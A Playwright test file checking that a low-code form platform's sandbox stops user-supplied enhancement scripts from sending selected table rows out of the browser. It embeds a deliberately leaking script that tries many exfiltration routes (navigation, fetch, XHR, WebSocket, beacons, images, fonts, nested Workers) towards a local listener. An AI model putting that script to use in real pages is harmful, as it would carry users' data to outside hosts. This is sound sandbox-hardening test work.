import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, request, test, type APIRequestContext } from '@playwright/test';
import { type Envelope, signIn } from './support';
import { cgformField } from '../lib/online/form-def';

/**
 * Issue #38, point 5: a JS增强 script gets the selected rows, and must have no way to carry them out of the browser.
 * The script tries every road it has (navigating its frame, the top window, fetch, XMLHttpRequest, WebSocket,
 * EventSource, importScripts, beacons, images) towards a listener on this machine, at load and in its button hook;
 * nothing may arrive, while the button's message still shows. A hook that loops forever is stopped after 2 s without
 * freezing the page, and the script keeps working in a new Worker.
 */

// No column width: the journey checks the script, not the layout.
const field = (name: string, txt: string, order: number) => cgformField({ dbFieldName: name, dbFieldTxt: txt, orderNum: order, fieldLength: null });

/** Every way out a script might try, each in its own try (in the Worker most of these names do not even exist). */
const leakingScript = (port: number) => `
var out = 'http://127.0.0.1:${port}';
function leak(rows) {
  var q = '?rows=' + encodeURIComponent(JSON.stringify(rows));
  var tries = [
    function () { location.href = out + '/location' + q; },
    function () { self.location = out + '/self-location' + q; },
    function () { top.location = out + '/top' + q; },
    function () { parent.location.href = out + '/parent' + q; },
    function () { document.location = out + '/document' + q; },
    function () { window.open(out + '/open' + q); },
    function () { fetch(out + '/fetch' + q, { mode: 'no-cors' }).catch(function () {}); },
    function () { var x = new XMLHttpRequest(); x.open('GET', out + '/xhr' + q); x.send(); },
    function () { new WebSocket('ws://127.0.0.1:${port}/ws' + q); },
    function () { new EventSource(out + '/eventsource' + q); },
    function () { importScripts(out + '/import' + q); },
    function () { navigator.sendBeacon(out + '/beacon' + q, 'x'); },
    function () { new Image().src = out + '/image' + q; },
    function () { self.fonts.add(new FontFace('x', 'url(' + out + '/font' + q + ')')); },
    function () { new Worker(URL.createObjectURL(new Blob(['fetch("' + out + '/nested' + q + '")']))); },
  ];
  for (var i = 0; i < tries.length; i++) { try { tries[i](); } catch (e) {} }
}
leak(['at load']);
api.buttons = [{ key: 'remind', text: '提醒' }, { key: 'spin', text: '死循环' }];
var calls = 0;
api.onButton = function (key, rows) {
  if (key === 'spin') { for (;;) {} }
  leak(rows);
  calls++;
  return { message: '已提醒 ' + rows.length + ' 人（第' + calls + '次）' };
};`;

async function ok(api: APIRequestContext, path: string, data?: unknown) {
  const res = await api.post(`/jeecg-boot${path}`, { data: data ?? {}, headers: { origin: new URL(test.info().project.use.baseURL!).origin } });
  const body = (await res.json()) as Envelope<{ id: string }>;
  expect(body.success, `${path}: ${body.message}`).toBe(true);
  return body.result;
}

test('a JS增强 script cannot send the rows it is given anywhere; its button still answers', async ({ page, baseURL }) => {
  test.slow();
  const hits: string[] = [];
  const listener = http.createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.end('ok');
  });
  listener.on('upgrade', (req, socket) => {
    hits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const port = (listener.address() as AddressInfo).port;
  try {
    // The sandbox document answers anyone (no sign-in, same bytes) with its own policy.
    const anonymous = await request.newContext({ baseURL });
    const doc = await anonymous.get('/enhance-sandbox', { maxRedirects: 0 });
    expect(doc.status()).toBe(200);
    expect(doc.headers()['content-security-policy']).toMatch(/^sandbox allow-scripts; default-src 'none'; script-src 'sha256-[^']+' 'unsafe-eval'; worker-src blob:; connect-src 'none'/);
    await anonymous.dispose();

    // A synchronised form with one row and the leaking list script, in the administrator's menu.
    const table = `leak_${Date.now().toString(36).slice(-5)}`;
    await signIn(page, 'admin', '/logo.svg');
    const api = page.context().request;
    const head = await ok(api, '/online/cgform/api/addAll', { head: { tableName: table, tableTxt: `增强沙箱${table}`, tableType: 1 }, fields: [field('student_name', '学员姓名', 1)] });
    await ok(api, `/online/cgform/api/doDbSynch/${head.id}/normal`);
    await ok(api, `/online/cgform/head/enhanceJs/${head.id}`, { cgJsType: 'list', cgJs: leakingScript(port) });
    await ok(api, `/online/cgform/head/addMenu/${head.id}`, {});
    // A fresh session carries the new menu's codes.
    await signIn(page, 'admin', '/logo.svg');
    await ok(page.context().request, `/online/cgform/api/crud/${table}/add`, { student_name: '林小雨' });
    await page.goto(`/online/cgformList/${table}`);
    const list = page.getByTestId('cgform-auto-list');
    const row = list.locator('tbody tr.ant-table-row').filter({ hasText: '林小雨' });
    await expect(row).toHaveCount(1);
    await row.getByRole('checkbox').check();
    const notice = (text: string) => page.locator('.ant-message-notice').filter({ hasText: text });
    await page.getByTestId('cgform-enhance-btn-remind').click();
    await expect(notice('已提醒 1 人（第1次）')).toBeVisible();
    await page.getByTestId('cgform-enhance-btn-remind').click();
    await expect(notice('已提醒 1 人（第2次）')).toBeVisible();

    // A hook that never returns: the page stays usable, the call ends after 2 s, and the script starts afresh in a new
    // Worker (its counter starts again).
    await page.getByTestId('cgform-enhance-btn-spin').click();
    expect(await page.evaluate(() => 6 * 7)).toBe(42);
    await expect(notice('增强脚本超时（超过2秒）')).toBeVisible();
    await expect(notice('已提醒 1 人（第1次）')).toHaveCount(0);
    await page.getByTestId('cgform-enhance-btn-remind').click();
    await expect(notice('已提醒 1 人（第1次）')).toBeVisible();

    // Nothing reached the listener, the frame is still the sandbox document and the page did not move.
    await page.waitForTimeout(1_500);
    expect(hits).toEqual([]);
    expect(page.url()).toContain(`/online/cgformList/${table}`);
    const frames = page.frames().map((f) => f.url());
    expect(frames.filter((u) => u.includes('/enhance-sandbox'))).toHaveLength(1);
    expect(frames.filter((u) => u.includes(`:${port}`))).toEqual([]);

    // The listener is reachable from this browser: its silence above is the sandbox's doing.
    const control = await page.context().newPage();
    await control.goto(`http://127.0.0.1:${port}/control`);
    expect(hits).toEqual(['GET /control']);
    await control.close();
  } finally {
    listener.close();
  }
});
